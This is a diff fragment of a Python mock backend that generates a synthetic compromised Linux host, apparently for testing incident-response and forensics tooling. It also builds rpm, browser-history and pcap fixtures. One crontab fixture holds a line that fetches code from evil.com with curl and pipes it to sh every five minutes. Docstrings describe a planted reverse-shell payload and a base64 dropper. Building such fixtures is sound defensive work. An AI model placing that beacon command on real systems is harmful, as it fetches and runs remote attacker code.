+                        f"read_bytes: 0\nwrite_bytes: 0\ncancelled_write_bytes: 0\n")
+
+    @mock_tree
+    def _log_and_cron_files(self, root: str):
+        """
+        /var/log/auth.log, system crontabs, and a crontab for hax0r that beacons
+        every five minutes, with mtimes on the incident day (Jul 25).
+        """
+        incident = incident_day().timestamp()
+        files = {"var/log/auth.log": ("\n".join(self.auth_log) + "\n", incident + 86399),
+                 "etc/crontab": ("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", incident - 200 * 86400),
+                 "etc/cron.d/e2scrub_all": ("30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2scrub_all\n", incident - 200 * 86400),
+                 "var/spool/cron/crontabs/hax0r": ("*/5 * * * * /usr/bin/curl -s http://evil.com/beacon | sh\n", incident + 10 * 3600 + 7 * 60)}
+        for relative, (content, modified) in files.items():
+            path = os.path.join(root, relative)
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w") as f:
+                f.write(content)
+            os.utime(path, (modified, modified))
+
+    @mock_tree
+    def _payload_files(self, root: str):
+        """
+        Files for the content scan: the planted /tmp/payload.sh (curl | bash and a
+        /dev/tcp reverse shell), a base64 dropper in hax0r's Downloads, and benign
+        scripts and notes alongside them.
+        """
+        rng = self.rng("payload-files")
+        files = {"tmp/payload.sh": PLANTED_PAYLOAD,
+                 "home/hax0r/Downloads/update.sh": (b"#!/bin/sh\nP=" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(900)))
+                                                    + b"\n" + PLANTED_DROPPER)}
+        for i in range(self.counts["payloads"]):
+            ext = rng.choice(PAYLOAD_EXTENSIONS)
+            files[f"tmp/file_{i}{ext}"] = BENIGN_SCRIPTS[ext].encode("utf-8")
+        for user in self.users:
+            if user["home"].startswith("/home/") and user["name"] != "hax0r":
+                files[f"{user['home'].lstrip('/')}/Downloads/notes_{rng.randint(1, 99)}.txt"] = b"Meeting notes: /tmp cleanup, run backups with bash.\n"
+        for directory in ("var/tmp", "dev/shm"):
+            os.makedirs(os.path.join(root, directory), exist_ok=True)
+        for relative, content in files.items():
+            path = os.path.join(root, relative)
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "wb") as f:
+                f.write(content)
+        # Dropped right after hax0r was created (10:05 on the incident day, as `ls -la /tmp` shows)
+        dropped = incident_day().timestamp() + 10 * 3600 + 5 * 60
+        for relative in ("tmp/payload.sh", "home/hax0r/Downloads/update.sh"):
+            os.utime(os.path.join(root, relative), (dropped, dropped))
+
+
+def _proc_net_address(endpoint: str) -> str:
+    """"1.2.3.4:80" as /proc/net/tcp writes it on a little-endian host: 04030201:0050."""
+    host, port = endpoint.rsplit(":", 1)
+    return "".join(f"{int(octet):02X}" for octet in reversed(host.split("."))) + f":{0 if port == '*' else int(port):04X}"
+
+
+# --- Package database fixtures ---
+def encode_rpm_header(tags: List[Tuple[int, int, Any]]) -> bytes:
+    """Builds an rpm header blob from (tag, type, value) triples; types 4 (int32) and 6 (string)."""
+    index, store = [], b""
+    for tag, kind, value in tags:
+        if kind == 4:
+            store += b"\0" * (-len(store) % 4)
+            data = value.to_bytes(4, "big", signed=True)
+        else:
+            data = str(value).encode("utf-8") + b"\0"
+        index.append(struct.pack(">iiii", tag, kind, len(store), 1))
+        store += data
+    return struct.pack(">ii", len(index), len(store)) + b"".join(index) + store
+
+
+def write_rpmdb(path: str, packages: List[Tuple[str, str, str, str, int, int]]):
+    """rpm >= 4.16 sqlite backend: one header blob per (name, version, release, arch, installtime, size)."""
+    connection = sqlite3.connect(path)
+    with connection:
+        connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
+        rows = [(encode_rpm_header([(1000, 6, name), (1001, 6, version), (1002, 6, release), (1008, 4, installed),
+                                    (1009, 4, size), (1022, 6, arch)]),)
+                for name, version, release, arch, installed, size in packages]
+        rows.append((encode_rpm_header([(1000, 6, "gpg-pubkey"), (1001, 6, "fd431d51"), (1002, 6, "4ae0493b")]),))
+        connection.executemany("INSERT INTO Packages(blob) VALUES (?)", rows)
+    connection.close()
+
+
+# --- Browser history fixtures ---
+# Minimal subsets of the real schemas, including the visit-time indexes the
+# browsers create. Visits are (unix_seconds, url, title, duration_seconds).
+def write_chromium_history(path: str, visits: List[Tuple[float, str, Optional[str], float]]):
+    connection = sqlite3.connect(path)
+    with connection:
+        connection.executescript(
+            "CREATE TABLE urls(id INTEGER PRIMARY KEY AUTOINCREMENT, url LONGVARCHAR, title LONGVARCHAR, "
+            "visit_count INTEGER DEFAULT 0 NOT NULL, typed_count INTEGER DEFAULT 0 NOT NULL, "
+            "last_visit_time INTEGER NOT NULL, hidden INTEGER DEFAULT 0 NOT NULL);"
+            "CREATE INDEX urls_url_index ON urls (url);"
+            "CREATE TABLE visits(id INTEGER PRIMARY KEY, url INTEGER NOT NULL, visit_time INTEGER NOT NULL, "
+            "from_visit INTEGER, transition INTEGER DEFAULT 0 NOT NULL, segment_id INTEGER, "
+            "visit_duration INTEGER DEFAULT 0 NOT NULL);"
+            "CREATE INDEX visits_url_index ON visits (url);"
+            "CREATE INDEX visits_time_index ON visits (visit_time);")
+        url_ids: Dict[str, int] = {}
+        for timestamp, url, title, _ in visits:
+            webkit = int(timestamp * 1000000) + 11644473600 * 1000000
+            if url not in url_ids:
+                url_ids[url] = connection.execute("INSERT INTO urls(url, title, last_visit_time) VALUES (?, ?, ?)",
+                                                  (url, title, webkit)).lastrowid
+            connection.execute("UPDATE urls SET visit_count = visit_count + 1, last_visit_time = ? WHERE id = ?",
+                               (webkit, url_ids[url]))
+        connection.executemany("INSERT INTO visits(url, visit_time, transition, visit_duration) VALUES (?, ?, 805306368, ?)",
+                               [(url_ids[url], int(t * 1000000) + 11644473600 * 1000000, int(d * 1000000))
+                                for t, url, _, d in visits])
+    connection.close()
+
+
+def write_firefox_places(path: str, visits: List[Tuple[float, str, Optional[str], float]]):
+    connection = sqlite3.connect(path)
+    with connection:
+        connection.executescript(
+            "CREATE TABLE moz_places(id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR, rev_host LONGVARCHAR, "
+            "visit_count INTEGER DEFAULT 0, hidden INTEGER DEFAULT 0 NOT NULL, typed INTEGER DEFAULT 0 NOT NULL, "
+            "frecency INTEGER DEFAULT -1 NOT NULL, last_visit_date INTEGER, guid TEXT);"
+            "CREATE UNIQUE INDEX moz_places_url_uniqueindex ON moz_places (url);"
+            "CREATE TABLE moz_historyvisits(id INTEGER PRIMARY KEY, from_visit INTEGER, place_id INTEGER, "
+            "visit_date INTEGER, visit_type INTEGER, session INTEGER);"
+            "CREATE INDEX moz_historyvisits_placedateindex ON moz_historyvisits (place_id, visit_date);"
+            "CREATE INDEX moz_historyvisits_dateindex ON moz_historyvisits (visit_date);")
+        place_ids: Dict[str, int] = {}
+        for timestamp, url, title, _ in visits:
+            if url not in place_ids:
+                place_ids[url] = connection.execute("INSERT INTO moz_places(url, title, visit_count) VALUES (?, ?, 0)",
+                                                    (url, title)).lastrowid
+            connection.execute("UPDATE moz_places SET visit_count = visit_count + 1, last_visit_date = ? WHERE id = ?",
+                               (int(timestamp * 1000000), place_ids[url]))
+        connection.executemany("INSERT INTO moz_historyvisits(place_id, visit_date, visit_type) VALUES (?, ?, 1)",
+                               [(place_ids[url], int(t * 1000000)) for t, url, _, _ in visits])
+    connection.close()
+
+
+# --- Packet capture fixtures ---
+# Packets are (unix_seconds, src "a.b.c.d:port", dst "a.b.c.d:port", protocol "tcp"/"udp", tcp_flags, payload_bytes).
+def write_pcap(path: str, packets: List[Tuple[float, str, str, str, int, int]]):
+    """A little-endian, microsecond, Ethernet pcap; payloads are zero bytes."""
+    with open(path, "wb") as f:
+        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+        for timestamp, src, dst, protocol, flags, payload in packets:
+            (src_host, src_port), (dst_host, dst_port) = src.rsplit(":", 1), dst.rsplit(":", 1)
+            if protocol == "tcp":
+                transport = struct.pack(">HHIIBBHHH", int(src_port), int(dst_port), 0, 0, 0x50, flags, 65535, 0, 0)
+            else:
+                transport = struct.pack(">HHHH", int(src_port), int(dst_port), 8 + payload, 0)
+            ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(transport) + payload, 0, 0x4000, 64, 6 if protocol == "tcp" else 17,
+                             0, bytes(int(octet) for octet in src_host.split(".")), bytes(int(octet) for octet in dst_host.split(".")))
+            frame = b"\x02\x42\x00\x00\x00\x01\xa4\x83\xe7\x12\x34\x56\x08\x00" + ip + transport + bytes(payload)
+            f.write(struct.pack("<IIII", int(timestamp), int(timestamp % 1 * 1000000), len(frame), len(frame)))
+            f.write(frame)
+
+
+def main(argv: Optional[List[str]] = None):
+    """Prints synthetic output for one command, e.g. `python -m IRIS.mock_backend --size 1000 ps aux`."""
+    import argparse
+    parser = argparse.ArgumentParser(description="Print synthetic IRIS mock output for a command.")
+    parser.add_argument("--seed", type=int, default=1337)
+    parser.add_argument("--size", type=int, default=1)
+    parser.add_argument("command", nargs="+")
+    args = parser.parse_args(argv)
+    print(SyntheticHost(seed=args.seed, size=args.size).run(" ".join(args.command)), end="")
+
+
+if __name__ == "__main__":
+    main()